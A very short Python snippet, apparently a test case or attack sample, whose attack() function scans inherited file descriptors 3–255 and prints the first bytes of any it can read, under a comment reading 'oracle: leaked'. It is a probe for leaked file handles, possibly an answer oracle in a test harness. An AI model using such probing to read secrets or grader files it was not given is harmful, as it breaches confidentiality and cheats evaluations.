# oracle: leaked
import os


def attack():
    for number in range(3, 256):
        try:
            print(os.pread(number, 99, 0))
        except OSError:
            pass
